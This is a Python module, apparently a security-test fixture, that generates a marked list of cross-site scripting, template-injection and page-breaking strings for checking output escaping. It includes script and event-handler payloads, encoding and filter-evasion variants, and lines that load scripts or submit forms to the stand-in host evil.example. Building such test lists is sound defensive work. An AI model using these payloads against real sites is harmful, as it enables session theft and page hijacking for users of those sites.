"""Texts that run as a script, or break a page, wherever one is shown as anything but text.

Each carries a number, the mark of the field that it is put into: what is seen, or executes, tells
from where it came.
"""

from __future__ import annotations

import itertools

CODE = "top.owned={m}"
FIRST_MARK = 100
# What closes the place that a text is put into: an element, an attribute, a comment, a script.
BREAKOUTS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "*/", "`")
MARKUP = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<video><source onerror={c}>",
    "<audio src=x onerror={c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<iframe src=javascript:{c}>",
    "<a href=javascript:{c}>x</a>",
    "<object data=javascript:{c}>",
    "<math><mi xlink:href=javascript:{c}>x",
    "<style onload={c}></style>",
    "<marquee onstart={c}>",
    "<svg><animate onbegin={c} attributeName=x>",
    "<img src=//evil.example/{m}.png>",
    "<script src=//evil.example/{m}.js></script>",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    "<base href=//evil.example/{m}/>",
    "<form action=//evil.example/{m}><button>x",
)
# Attributes, other notations, templates, urls, prototypes, directions and sheer size.
OTHERS = (
    '" onmouseover={c} autofocus onfocus={c} x="',
    "' onfocus={c} autofocus x='",
    "` onfocus={c} autofocus x=`",
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\u00adscript:{c}",
    "data:text/html,<script>{c}</script>",
    "//evil.example/{m}",
    "https://evil.example/{m}",
    "/\u2044evil.example/{m}",
    "&lt;img src=x onerror={c}&gt;",
    "&#60;img src=x onerror={c}&#62;",
    "%3Cimg%20src=x%20onerror={c}%3E",
    "\\u003cimg src=x onerror={c}\\u003e",
    "\\x3cimg src=x onerror={c}\\x3e",
    "\uff1cimg src=x onerror={c}\uff1e",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<ScRiPt>{c}</sCrIpT>",
    "<img/src/onerror={c}>",
    "<<script>{c}//<</script>",
    "';{c};//",
    '";{c};//',
    "${{{c}}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "$t(common.app)",
    "{{{{name}}}}",
    "__proto__",
    "constructor",
    "toString",
    "expression({c})",
    "</style><style>*{{display:none}}</style>",
    "<!--",
    "<plaintext>",
    "\u202e<img src=x onerror={c}>",
    "\u200b\u200d\ufeff<svg onload={c}>",
    "Z\u0351\u0343\u0342\u033d\u0346\u0321\u032e" * 8,
    "W" * 60,
    "\U0001f9d8\U0001f3fd\u200d\u2640\ufe0f" * 10,
    "\u0633\u0644\u0627\u0645 <b>\u05e9\u05dc\u05d5\u05dd</b>",
    "\ufdfd" * 40,
)  # fmt: skip


def payloads(mark: int = FIRST_MARK) -> list[str]:
    """All of them with a mark, each once; every kind early in the list."""
    code = CODE.format(m=mark)
    made = [before + text for before, text in itertools.product(BREAKOUTS, MARKUP)]
    found = list(
        dict.fromkeys(
            text.format(c=code, m=mark) if "{" in text else text for text in (*OTHERS, *made)
        )
    )
    assert len(found) >= 200, "too few"
    return found


def some(count: int, mark: int = FIRST_MARK) -> list[str]:
    """So many of them, from all over the list."""
    known = payloads(mark)
    step = max(1, len(known) // count)
    return known[::step][:count]


def as_address(text: str) -> str:
    """The text as an e-mail address, of which it is the local part."""
    return (
        f"{''.join('/' if each.isspace() else each for each in text).replace('@', '')}@evil.example"
    )
